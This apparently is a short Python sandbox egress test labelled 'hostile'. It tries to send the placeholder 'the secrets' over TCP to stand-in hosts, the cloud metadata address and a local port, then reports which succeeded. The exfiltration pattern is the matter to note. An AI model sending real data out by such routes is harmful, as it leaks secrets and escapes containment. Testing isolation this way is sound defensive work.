"""Hostile: send what was found to somebody, by any way there is."""

import socket
import sys

WAYS = [("example.com", 80), ("192.0.2.1", 443), ("169.254.169.254", 80)]
if len(sys.argv) > 1:  # a service on the host itself
    WAYS.append(("127.0.0.1", int(sys.argv[1])))

reached = 0
for host, port in WAYS:
    try:
        with socket.create_connection((host, port), timeout=2) as connection:
            connection.sendall(b"the secrets\n")
        reached += 1
        print(f"{host}:{port}: REACHED")
    except OSError as why:
        print(f"{host}:{port}: {why.strerror or why}")
print("network interfaces:", ", ".join(name for _, name in
                                       socket.if_nameindex()) or "none")
sys.exit(0 if reached else 1)
